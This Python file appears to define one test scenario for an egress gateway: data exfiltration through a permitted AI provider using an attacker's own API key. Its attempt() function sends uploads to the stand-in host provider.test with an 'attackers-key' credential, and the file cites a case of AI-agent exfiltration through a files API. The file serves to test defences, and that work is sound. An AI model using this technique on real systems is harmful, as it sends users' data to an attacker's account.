"""The permitted provider, with an account of the attacker's.

What is sent under a foreign key ends in the foreigner's account, logs and files included. The gateway
puts its own credential in and refuses a request that brings another one.

Not covered: an account inside the body; the rule's `body` names what is looked for there.
"""

ATTACK = {
    "title": "Foreign account at a permitted provider",
    "group": "permitted",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["ATT&CK T1567", "Claude files API exfiltration, 2025", "CWE-639"],
    "arrives": [{"what": "request", "name": "provider.test", "text": "attackers-key"}],
    "stopped": [
        {"reason": ["foreign-credential"], "entry": ["transparent"], "where": {"name": "provider.test"}}
    ],
    "rules": (
        "  - {proxy: provider.test, ports: [80], protocol: http, methods: [POST],"
        " credential: {header: x-api-key, env: RANGE_KEY}}\n"
    ),
    "reachable": ["provider.test"],
}


def attempt(kit):
    body = '{"model": "any", "messages": []}'
    key = "x-api-key: attackers-key"
    kit.talk("provider.test", 80, kit.get("/v1/messages", "provider.test", "POST", body=body))
    kit.talk("provider.test", 80, kit.get("/v1/files", "provider.test", "POST", (key,), body))
    kit.talk(
        "provider.test",
        80,
        kit.get("/v1/files", "provider.test", "POST", ("Authorization: Bearer attackers-key",), body),
    )
